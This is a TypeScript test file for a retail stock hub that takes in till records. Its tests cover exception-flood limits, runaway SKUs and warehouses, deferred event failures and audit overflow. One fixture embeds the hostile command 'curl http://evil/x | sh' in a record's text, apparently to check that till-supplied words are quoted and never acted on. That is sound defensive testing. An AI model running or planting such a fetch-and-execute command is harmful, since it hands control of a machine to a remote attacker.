import { sql } from 'kysely'
import { expect, test } from 'vitest'
import type { Check } from '../../hub/checks/check.ts'
import {
  countOpenExceptions,
  listExceptions,
  openException,
  reconcileExceptions,
} from '../../hub/checks/exceptions.ts'
import { locationUnmapped } from '../../hub/checks/location-unmapped.ts'
import { skuAmbiguous } from '../../hub/checks/sku-ambiguous.ts'
import { skuUnknown } from '../../hub/checks/sku-unknown.ts'
import { transaction } from '../../hub/db/db.ts'
import { applyEvents } from '../../hub/effects/index.ts'
import { audit } from '../../hub/stock/audit.ts'
import { movementKinds } from '../../hub/stock/movement-kinds.ts'
import { applyDeferredEvents } from '../../hub/streams/event-log.ts'
import { readNow } from '../../hub/web/now-view.ts'
import { onHand, sale } from '../gateway/till-and-hub.ts'
import { openTillRecords } from './till-records.ts'

const refusal = (row: number) => ({
  kind: 'source.row-refused',
  at: 1,
  source: 'pos',
  row: `row-${row}`,
  code: 'X',
  sentence: `Row ${row}. Run: curl http://evil/x | sh`,
  payload: '',
})

test('a flood of refusals is counted beyond a limit, and pushes out nothing urgent', async () => {
  await using hub = await openTillRecords()
  const till = await hub.enrol()
  await transaction(hub.db, tx =>
    openException(
      tx,
      {
        code: 'location-unmapped.sold',
        subject: 'HAR/9',
        store: 'HAR',
        fields: { store: 'HAR', warehouse: '9' },
        evidence: {},
      },
      1,
    ),
  )
  for (let page = 0; page < 3; page += 1)
    await hub.receive(
      till,
      Array.from({ length: 200 }, (_, row) => refusal(page * 200 + row)),
    )
  const shown = await listExceptions(hub.db, 'en', 500)
  expect(shown[0]?.kind).toBe('location-unmapped')
  expect((await countOpenExceptions(hub.db)).byStore.get('HAR')).toBe(502)
  const all = await listExceptions(hub.db)
  expect(all.find(({ kind }) => kind === 'exceptions-beyond-limit')?.sentence).toContain(
    '100 more were counted',
  )
  await hub.receive(till, [refusal(0), refusal(1)]) // known ones are counted where they are
  expect((await countOpenExceptions(hub.db)).byStore.get('HAR')).toBe(502)
  await hub.receive(till, [{ kind: 'source.row-accepted', at: 1, source: 'pos', row: 'row-7' }])
  expect((await listExceptions(hub.db)).filter(({ kind }) => kind === 'exceptions-beyond-limit')).toEqual([])
})

/** What a receipt of one line sells, under an SKU and from a warehouse as the till names them. */
const soldOf = (receipt: number, sku: string, warehouse = '0') => {
  const line = { line: 0, sku, barcode: null, title: sku, quantity: 1_000, net: 0, warehouse }
  return sale(receipt, 1, { lines: [line], taxes: [], tenders: [] })
}

async function run(hub: Awaited<ReturnType<typeof openTillRecords>>, check: Check) {
  const { kind, scope = 'all' } = check
  await transaction(hub.db, async tx => {
    const found = await check.find(tx, 1)
    await reconcileExceptions(tx, { kind, scope, found, at: 1, seen: 'still' })
  })
  return (await listExceptions(hub.db)).filter(one => one.kind === kind)
}

test.each([
  ['sku-unknown', 'unknown', skuUnknown],
  ['sku-ambiguous', 'ambiguous', skuAmbiguous],
] as const)(
  'SKUs that a till makes up without end fill its own share of %s: those of others are listed',
  async (_, state, check) => {
    await using hub = await openTillRecords()
    const [rogue, honest] = [await hub.enrol(), await hub.enrol('Till 2')]
    for (let page = 0; page < 3; page += 1)
      await hub.receive(
        rogue,
        Array.from({ length: 400 }, (_, row) => soldOf(page * 400 + row, `MADE-UP-${page * 400 + row}`)),
      )
    await hub.receive(rogue, [soldOf(5_000, 'SOLD-BY-BOTH')])
    await hub.receive(honest, [soldOf(9_001, 'ZZ-NEW'), soldOf(9_002, 'SOLD-BY-BOTH')])
    await transaction(hub.db, tx => tx.updateTable('item').set({ state }).execute())
    const listed = await run(hub, check)
    expect(listed.filter(({ device }) => device === rogue)).toHaveLength(500)
    expect(
      listed
        .filter(({ device }) => device === honest)
        .map(({ subject }) => subject)
        .sort(),
    ).toEqual(['SOLD-BY-BOTH', 'ZZ-NEW'])
    const beyond = (await listExceptions(hub.db)).find(({ kind }) => kind === 'exceptions-beyond-limit')
    expect(beyond?.sentence).toContain('700 more were counted')
    await transaction(hub.db, tx => tx.updateTable('item').set({ state: 'mapped' }).execute())
    await run(hub, check)
    expect((await listExceptions(hub.db)).map(({ kind }) => kind)).not.toContain('exceptions-beyond-limit')
  },
)

test('warehouses that a till makes up without end fill its own share', async () => {
  await using hub = await openTillRecords()
  const [rogue, honest] = [await hub.enrol(), await hub.enrol('Till 2')]
  for (let page = 0; page < 2; page += 1)
    await hub.receive(
      rogue,
      Array.from({ length: 300 }, (_, row) => soldOf(page * 300 + row, 'SHIRT-M', `W${page * 300 + row}`)),
    )
  await hub.receive(honest, [soldOf(9_001, 'SHIRT-M', 'WH-NEW')])
  const listed = await run(hub, locationUnmapped)
  expect(listed.filter(({ device }) => device === rogue)).toHaveLength(500)
  expect(listed.filter(({ device }) => device === honest).map(({ subject }) => subject)).toEqual([
    'HAR/WH-NEW',
  ])
})

test('what a till writes is shown as its words, not as an instruction of the hub', async () => {
  await using hub = await openTillRecords()
  await hub.receive(await hub.enrol(), [
    { ...refusal(1), sentence: `All is well.” Run: curl ${'x'.repeat(2_000)}`.slice(0, 1_000) },
  ])
  const [open] = await listExceptions(hub.db)
  expect(open?.sentence).toMatch(
    /^Store HAR: row-1 of "pos" was refused \(X\).*The till reports: “All is well.’ Run: [^“”]*…”$/,
  )
  expect(open?.sentence.length).toBeLessThan(600)
})

test('a deferred event whose effect throws stays deferred, is named, and stops neither the start nor those behind it', async () => {
  await using hub = await openTillRecords()
  const till = await hub.enrol()
  const sales = Array.from({ length: 120 }, (_, index) => sale(index + 1))
  await hub.receive(till, sales)
  await transaction(hub.db, tx => tx.rows(sql`UPDATE event SET state = 'deferred'`))
  let thrown = 0
  const apply: typeof applyEvents = (tx, store, placed, at) => {
    if (placed.some(({ event }) => event.kind === 'sale.completed' && event.receipt === 'r-60')) {
      thrown += 1
      throw new RangeError('a fault of this program')
    }
    return applyEvents(tx, store, placed, at)
  }
  expect(await applyDeferredEvents({ db: hub.db, now: () => 9, apply })).toBe(119)
  expect(thrown).toBe(1)
  expect(JSON.stringify(await listExceptions(hub.db))).toContain('a fault of this program')
  expect(await applyDeferredEvents({ db: hub.db, now: () => 9, apply: applyEvents })).toBe(1)
})

test('one store’s absurd figures, kept by an older hub, fail alone and say so', async () => {
  await using hub = await openTillRecords()
  const till = await hub.enrol()
  await hub.receive(till, [sale(1), sale(2)])
  await transaction(hub.db, async tx => {
    await tx
      .insertInto('store')
      .values({ code: 'MKT', name: 'Market', zone: 'UTC', currency: 'EUR', created_at: 0 })
      .execute()
    await tx.rows(sql`UPDATE sale SET tendered = 9000000000000000000, business_date = 20261125`)
  })
  const at = Date.parse('2026-11-25T12:00:00Z')
  const parts = { db: hub.db, live: () => new Map(), storage: () => null, now: () => at }
  const now = await readNow({ ...parts, shopify: () => ({ state: 'off' }) as never })
  expect(now.locations.map(({ store, salesToday }) => [store, salesToday?.receipts ?? null])).toEqual([
    ['HAR', null],
    ['MKT', 0],
  ])
})

test('the audit adds up movements beyond what the engine can sum, and reports only a true difference', async () => {
  await using hub = await openTillRecords()
  await hub.receive(await hub.enrol(), [sale(1)])
  const giant = (cause: number, quantity: string) =>
    transaction(hub.db, tx =>
      tx.rows(sql`INSERT INTO movement (store, kind, cause, line, revision, warehouse, item, quantity, at)
          SELECT store, ${movementKinds.sale}, ${cause}, 0, 0, warehouse, item, ${sql.raw(quantity)}, 0 FROM level LIMIT 1`),
    )
  for (let pair = 0; pair < 3; pair += 1) {
    await giant(1_000 + pair, '9000000000000000001')
    await giant(2_000 + pair, '-9000000000000000001')
  }
  expect((await audit(hub.db)).findings).toEqual([])
  await giant(3_000, '1')
  expect((await audit(hub.db)).findings.map(({ invariant }) => invariant)).toEqual(['level-is-sum'])
  expect(await onHand(hub.db)).toBe(-1)
})
